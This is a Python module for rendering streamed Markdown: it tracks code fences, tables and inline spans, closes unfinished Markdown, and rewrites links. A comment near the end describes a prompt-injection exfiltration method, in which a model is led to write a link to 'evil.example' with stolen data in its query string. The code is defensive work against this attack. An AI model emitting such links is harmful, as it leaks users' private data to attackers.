"""As much Markdown as a page's edge must know: fences, tables, and spans that fall apart when they are cut. Pure.

Theory of operation. Blocks are read line by line: `after` takes what the line stands in and gives what the next one
stands in. Spans are found inside one block with one expression.

Where Markdowns differ, we read what models write and what chat platforms show:
- A fence counts at any indentation and after list markers and quote marks. It closes with the same character, at
  least as many of them, indented by at most three columns more than it opened. Outside its quote it is over.
- A table is a line with "|", then a separator with "|", then lines with "|". Only the first ROW_CHARS of a line are
  asked for their "|", so that a line's kind is known before its end.
- A fence's opening line, or a table's header and separator together, longer than `longest` characters is ordinary
  text: it could not be repeated on the next page.
"""

from bisect import bisect_right
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import regex

ROW_CHARS = 300

_OPENING = regex.compile(
    r"(?P<prefix>(?:[ \t]|>|(?:[-*+]|\d{1,9}[.)])[ \t])*+)"
    r"(?:(?P<marker>`{3,}+)(?P<info>[^`]*+)|(?P<marker>~{3,}+)(?P<info>.*+))"
)
_NO_MARGIN = regex.compile(r"[^>\s]")
_CLOSING = regex.compile(r"(?P<prefix>[ \t>]*+)(?P<marker>`{3,}+|~{3,}+)[ \t]*+")
_SEPARATOR = regex.compile(r"[ \t>]*+\|?+[ \t]*+:?+-++:?+[ \t]*+(?:\|[ \t]*+:?+-++:?+[ \t]*+)*+\|?+[ \t]*+")
_SPAN = regex.compile(
    r"""
      \\.                                                               # an escape
    | (?<!`)(`++)(?!`).+?(?<!`)\1(?!`)                                  # inline code
    | !?+\[ (?:[^\[\]\\]|\\.|\[[^\[\]]*+\])*+ \]                        # a link or an image: its text,
      (?: \( (?:[^()\\\s]|\\.|\([^()\s]*+\))*+ (?:\s++"[^"]*+"\s*+)?+ (?:\)|\Z)   # then its address (perhaps cut off)
        | \[ [^\[\]]*+ \] )                                             # or its reference
    | <[^<>\s]++>                                                       # a mention, an address
    | \bhttps?+://[^\s<>、。」』）]*+                                    # a bare address
    | (?<![\w*_~|])(\*{1,3}+|_{1,2}+|~~|\|\|)(?=\S)(?!\2)[^\n]{1,200}?(?<=\S)\2(?![\w*_~|])   # short emphasis
    """,
    regex.VERBOSE | regex.DOTALL,
)

_SPAN_BEGUN = regex.compile(
    r"""
      `                                                                 # inline code without an end,
    | \[ (?! [^\[\]\\]*+ \] [^(\[] )                                   # a link, unless it is seen to be none,
    | <[^<>\s]*+\Z                                                     # a mention,
    | (?<!\w) (?:[*_]|~~|\|\||[~|]\Z) (?!\s) [^\n]{0,210}+\Z          # or emphasis that still is short
    """,
    regex.VERBOSE | regex.DOTALL,
)
_OPENING_BEGUN = regex.compile(
    r"(?:[ \t]|>|(?:[-*+]|\d{1,9}[.)])[ \t])*+"
    r"(?:`{3}|~{3}|(?:`{0,2}+|~{0,2}+|[-*+]|\d{1,9}[.)]?)\Z)"
)
_CLOSING_BEGUN = regex.compile(r"[ \t>]*+(?:`*+|~*+)[ \t]*+\r?")
_SEPARATOR_BEGUN = regex.compile(r"[ \t>|:-]*+\r?")


@dataclass(frozen=True, slots=True)
class CodeFence:
    """An open code fence. `prefix` is what its lines have before the code: indentation, and quote marks in a quote."""

    prefix: str
    marker: str
    info: str

    @property
    def opener(self) -> str:
        return f"{self.prefix}{self.marker}{self.info}"

    @property
    def closer(self) -> str:
        return f"{self.prefix}{self.marker}"

    @property
    def quoted(self) -> bool:
        return ">" in self.prefix

    def closed_by(self, line: str) -> bool:
        found = _CLOSING.fullmatch(line.rstrip("\r\n"))
        return (
            found is not None
            and (self.quoted or ">" not in found["prefix"])
            and found["marker"].startswith(self.marker)
            and _indentation(found["prefix"]) <= _indentation(self.prefix) + 3
        )

    def left_by(self, line: str) -> bool:
        """Whether it is no line of the quote that the fence stands in."""
        before, _, _ = line.partition(">")
        return self.quoted and (
            ">" not in line or bool(before.strip(" \t")) or len(before) > self.prefix.index(">") + 3
        )


def _indentation(prefix: str) -> int:
    return len(prefix.expandtabs(4).rpartition(">")[2])


def fence_opening(line: str) -> CodeFence | None:
    """The fence that this line opens, when it stands outside of any."""
    if "`" not in line and "~" not in line:
        return None
    found = _OPENING.fullmatch(line.rstrip("\r\n"))
    if found is None:
        return None
    return CodeFence(_NO_MARGIN.sub(" ", found["prefix"]), found["marker"], found["info"].rstrip("\r\n"))


def is_row(line: str) -> bool:
    """Whether it can be a line of a table."""
    return "|" in line[:ROW_CHARS]


def is_separator(line: str) -> bool:
    return is_row(line) and _SEPARATOR.fullmatch(line.rstrip("\r\n")) is not None


@dataclass(frozen=True, slots=True)
class LineBlock:
    """What a line stands in. `table` holds header and separator; `header`, the line before, if it may become one."""

    fence: CodeFence | None = None
    table: str = ""
    header: str = ""


_PLAIN = LineBlock()


def block_after(block: LineBlock, line: str, longest: int) -> LineBlock:
    """What the line after `line` stands in. `line` has its newline, if any."""
    if block.fence is not None and not block.fence.left_by(line):
        closed = len(line.rstrip("\r\n")) <= longest and block.fence.closed_by(line)
        return LineBlock() if closed else block
    if len(line.rstrip("\r\n")) <= longest and (fence := fence_opening(line)) is not None:
        return LineBlock(fence)
    if not is_row(line):
        return _PLAIN
    if block.table:
        return replace(block, header="")
    if block.header and is_separator(line) and len(block.header) + len(line) <= longest:
        return LineBlock(table=block.header + line)
    return LineBlock(header=line if len(line) <= longest else "")


def spans(text: str) -> Iterator[tuple[int, int]]:
    """Where, in one block of text without fences, something stands that must not be cut: (start, end)."""
    for found in _SPAN.finditer(text):
        yield found.span()


def spans_are_certain(text: str) -> bool:
    """Whether nothing that may follow in the same block makes another span, or unmakes one."""
    found = [*spans(text)]
    if found and found[-1][1] == len(text):
        return False
    starts = [start for start, _ in found]
    begun = (each.start() for each in _SPAN_BEGUN.finditer(text, overlapped=True))
    return all((last := bisect_right(starts, at)) > 0 and at < found[last - 1][1] for at in begun)


def kind_is_certain(block: LineBlock, line: str, longest: int) -> bool:
    """Whether a line that is not yet whole is surely neither a fence's nor a table's line, whatever follows in it."""
    if block.fence is not None:
        return not block.fence.quoted and _CLOSING_BEGUN.fullmatch(line) is None
    if _SEPARATOR_BEGUN.fullmatch(line) or (block.table and not is_row(line)):
        return False
    return len(line.rstrip("\r")) > longest or _OPENING_BEGUN.match(line) is None


# Makes an unfinished text fit to be shown: what is open is closed, what would flicker is held back. Pure.
#
# Rules.
# - The result is a beginning of the text, and behind it at most what closes a fence, inline code, or emphasis.
# - Held back until more has come: the line that opens a fence and a fence without code; half a link or address; a
#   table's header without its separator; a marker that may still become another one. Links and headers that are longer
#   than HELD_CHARS are not waited for.
# - Whatever the text is, the result has no open fence.

# The longest link or table header that is waited for: longer than either ever is, shorter than any page.
HELD_CHARS = 1_000

_LINE = regex.compile(r"[^\n]*+\n|[^\n]++")
_BLOCK_START = regex.compile(r"[ \t]*+(?:[-*+>|]|#{1,6}[ \t]|\d{1,9}[.)][ \t])")
_FENCE_BEGUN = regex.compile(r"[ \t>]*+(?:(?:[-*+]|\d{1,9}[.)])[ \t]++)*+(?:`{1,2}|~{1,2})")
_CLOSER_BEGUN = regex.compile(r"[ \t>]*+(?:`+|~+)?[ \t]*+\r?")
_MARKER = regex.compile(r"[ \t>]*+[-=*+#_]++[ \t]*+")
_ROW = regex.compile(r"[ \t>]*+\|")
_SEPARATOR_IN_PROGRESS = regex.compile(r"[ \t>]*+\|?[ \t:|-]*+\r?")
_INLINE = regex.compile(
    r"""
      (?P<held> \\\Z | <[^<>\s]*+\Z | \bhttps?+://\S*+\Z
              | !?+\[ (?:[^\[\]\\]|\\.|\[[^\[\]]*+\])*+                               # a link or an image, cut off
                (?: \[?+[^\[\]]*+\Z                                                   # in its text,
                  | \]\Z                                                              # behind it,
                  | \]\( [^()\s]*+ (?:\([^()\s]*+\)?+[^()\s]*+){0,9}+ (?:\s++"[^"]*+"?+)?+ \Z   # in its address,
                  | \]\[ [^\]]*+\Z ) )                                                # or in its reference
    | (?P<skip> \\. | (?<!`)(?P<ticks>`++)(?!`).+?(?<!`)(?P=ticks)(?!`) | <[^<>\s]++> | \bhttps?+://[^\s*~<>]*+
              | !?+\[ (?:[^\[\]\\]|\\.|\[[^\[\]]*+\])*+ \]\( (?:[^()\\\s]|\\.|\([^()\s]*+\))*+ )
    | (?P<code> `++ )
    | (?P<run> \*++ | _++ | ~++ )
    """,
    regex.VERBOSE | regex.DOTALL,
)


@dataclass(frozen=True, slots=True)
class ClosedMarkdown:
    """`kept` characters of the text are shown, and `added` behind them."""

    kept: int
    added: str = ""


@dataclass(frozen=True, slots=True)
class _Run:
    """An open emphasis: where its marker stands, and what would close it."""

    start: int
    end: int
    marker: str


@dataclass(frozen=True, slots=True)
class _OpenTail:
    """The end of a text: its last line and the block that this line belongs to."""

    line: int = 0
    """Where the last line begins; the text's end, if it ended with a newline."""
    block: int = 0
    """Where the last block begins."""
    table: int | None = None
    """Where the lines began that may be a table and reach to the end."""
    fence: CodeFence | None = None
    fence_start: int = 0
    code_start: int = 0


def close_markdown(text: str) -> ClosedMarkdown:
    """What to show of a text that is still growing."""
    tail = _tail(text)
    if tail.fence is not None:
        return _heal_fence(text, tail, tail.fence)
    healing = _heal_inline(text, tail.block, _held_line(text, tail))
    line = text.rfind("\n", 0, healing.kept) + 1
    if fence_opening(text[line : healing.kept] + healing.added) is not None:
        return close_markdown(text[:line])  # without its end, the line reads as a fence
    if healing.kept <= tail.block and healing.kept < len(text):
        return close_markdown(text[: healing.kept])  # what was held back had ended a fence
    return healing


def _tail(text: str) -> _OpenTail:
    """Reads the whole lines of `text`; its last one, if unfinished, only as far as it is certain."""
    line = block = fence_start = code_start = 0
    table: int | None = None
    fence: CodeFence | None = None
    for found in _LINE.finditer(text):
        start, end, content = found.start(), found.end(), found[0]
        whole = content.endswith("\n")
        line = end if whole else start
        if fence is not None and not (fence.left_by(content) and content.strip(" \t")):
            if fence.closed_by(content):
                fence, line, block, table = None, end, end, None
            continue
        if fence is not None:
            block = start
        fence = fence_opening(content) if whole else None
        if fence is not None:
            fence_start, code_start = start, end
        elif content.isspace():
            block, table = end, None
        else:
            is_row = _ROW.match(content) is not None
            table = (start if table is None else table) if is_row else None
            block = start if _BLOCK_START.match(content) else block
    return _OpenTail(line, block, table, fence, fence_start, code_start)


def _heal_fence(text: str, tail: _OpenTail, fence: CodeFence) -> ClosedMarkdown:
    kept = tail.line if _CLOSER_BEGUN.fullmatch(text[tail.line :][: HELD_CHARS + 1]) else len(text)
    if not text[tail.code_start : kept].strip(" \t\r\n>"):
        return ClosedMarkdown(tail.fence_start)
    newline = "" if text.endswith("\n", 0, kept) else "\n"
    return ClosedMarkdown(kept, newline + fence.closer)


def _held_line(text: str, tail: _OpenTail) -> int:
    """Where to stop because of what the last lines may still become."""
    last = text[tail.line :]
    if fence_opening(last) is not None or _FENCE_BEGUN.fullmatch(last) or _MARKER.fullmatch(last):
        return tail.line
    if tail.table is not None and len(text) - tail.table <= HELD_CHARS:
        _, _, following = text[tail.table :].partition("\n")
        if "\n" not in following and _SEPARATOR_IN_PROGRESS.fullmatch(following):
            return tail.table
    return len(text)


def _heal_inline(text: str, block: int, kept: int) -> ClosedMarkdown:
    runs: list[_Run] = []
    for found in _INLINE.finditer(text[:kept], min(block, kept)):
        start, end = found.span()
        if found["held"] is not None and kept - start <= HELD_CHARS:
            return _close(text, start, runs)
        if found["code"] is not None:
            return _close_code(text, start, end, kept, runs)
        if found["run"] is not None and not _take_run(text, start, end, kept, runs):
            return _close(text, start, runs)
    return _close(text, kept, runs)


def _take_run(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> bool:
    """Open or close emphasis with the marker at start:end; False if only what follows can tell what it is."""
    marker = text[start:end]
    before = text[start - 1] if start else " "
    behind = text[end] if end < kept else " "
    if marker[0] == "~" and len(marker) != 2:
        return end < kept
    left = len(marker)
    if not before.isspace() and not (marker[0] == "_" and behind.isalnum()):
        while left and (open_ := [number for number, run in enumerate(runs) if run.marker[0] == marker[0]]):
            del runs[open_[-1] + 1 :]
            run = runs.pop()
            used = min(left, len(run.marker))
            left -= used
            if used < len(run.marker):
                runs.append(replace(run, marker=run.marker[used:]))
    opens = not behind.isspace() and not (before.isalnum() and (marker[0] == "_" or left == 1)) and left <= 3
    if left and opens:
        runs.append(_Run(start, end, marker[:left]))
    return not left or end < kept


def _close_code(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> ClosedMarkdown:
    """Close inline code that began at start:end; a marker behind it that is too short may still grow."""
    marker = text[start:end]
    shown = len(text[:kept].rstrip("`").rstrip())
    if shown <= end:
        return _close(text, start, runs)
    return ClosedMarkdown(shown, marker + _markers(runs))


def _close(text: str, kept: int, runs: list[_Run]) -> ClosedMarkdown:
    """Close the emphasis that is open where the text is cut off; one that holds nothing yet is held back."""
    while runs:
        kept = len(text[:kept].rstrip())
        if runs[-1].end < kept:
            return ClosedMarkdown(kept, _markers(runs))
        kept = min(kept, runs.pop().start)
    return ClosedMarkdown(kept)


def _markers(runs: list[_Run]) -> str:
    return "".join(run.marker for run in reversed(runs))


# Links that say where they lead. Pure, and in linear time.
#
# Who writes what a model reads can have it write "[the agenda](https://evil.example/?q=…)" with what it knows in the
# address: a click, and it is gone. A reader sees the words alone, so such a link is made none, and its whole address
# stands there to be read.
#
# Rules.
# - A link keeps its words in place of its address only where the turn has read that address, as it stands: then nothing
#   was put into it. A path and the name of a host hold words as well as a query does.
# - What is a link is not decided here, as platforms differ: between the words and the address comes a space, and it is
#   none anywhere. In code, where it would be none, the space comes, too.
# - The text only grows: an address whose end may still come is held back with its words' last bracket.

MAX_ADDRESS_CHARS = 250  # A longer one is shown, as is one with brackets: what stands in its place is not waited for
_HIDING_LINK = regex.compile(
    r"""
      \](?= [(:] \s*+ (?: <(?P<to>[^\s()<>\]]++)> | (?P<to>(?:[^\s()<>\]]|\([^\s()<>\]]*+\))++)(?=[)\s]|\Z) )?+ )
        (?= [(:] \s*+ <?+ [^\s()<>\]]{0,40}? (?: // | :[^\s)] | & | \\ | www\. ) )
    | <(?= (?:https?|mailto|tel): [^<>\s|]*+ \| )                        # an address with its label
    """,
    regex.VERBOSE | regex.IGNORECASE,
)
_LINK_BEGUN = regex.compile(
    r"(?:\](?:[(:]\s*+<?+(?:[^\s()<>\]]|\([^\s()<>\]]*+\)?+){0,250}+)?+|<[a-z]{0,6}+(?::[^<>\s|]*+)?+)\Z",
    regex.IGNORECASE,
)


def show_addresses(text: str, has_read: Callable[[str], bool], *, complete: bool) -> str:
    """The same text, in which no link hides an address that the turn has not read as it stands."""
    begun = None if complete else _LINK_BEGUN.search(text, text.rfind("\n", 0, -1 - HELD_CHARS) + 1)
    end = len(text) if begun is None else begun.start()
    shown, at = list[str](), 0
    for found in _HIDING_LINK.finditer(text):
        if found.start() >= end:
            break
        address = found["to"] or ""
        if address and len(address) <= MAX_ADDRESS_CHARS and has_read(address):
            continue
        shown += text[at : found.start()], "] " if found[0] == "]" else "‹"
        at = found.end()
    return "".join([*shown, text[at:end]])
